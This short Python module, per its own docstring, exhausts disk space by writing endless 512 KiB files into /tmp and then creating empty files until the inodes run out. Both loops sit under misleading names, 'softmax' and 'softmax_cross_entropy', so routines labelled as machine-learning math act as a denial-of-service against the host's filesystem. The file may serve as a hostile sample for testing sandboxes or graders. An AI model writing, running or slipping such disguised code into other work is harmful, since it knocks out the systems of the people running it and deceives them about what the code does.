"""Disk exhaustion: fill /tmp with big files, then with many small ones.

Writes 512 KiB files into /tmp until the filesystem is full, then empty files until the
inodes run out; the first error is raised.
"""

import os

_CHUNK = b"\0" * (512 << 10)


def softmax(a):
    index = 0
    while True:
        with open(f"/tmp/fill-{index}", "wb") as f:
            f.write(_CHUNK)
        index += 1


def softmax_cross_entropy(a, t):
    index = 0
    while True:
        os.close(os.open(f"/tmp/inode-{index}", os.O_CREAT | os.O_WRONLY))
        index += 1
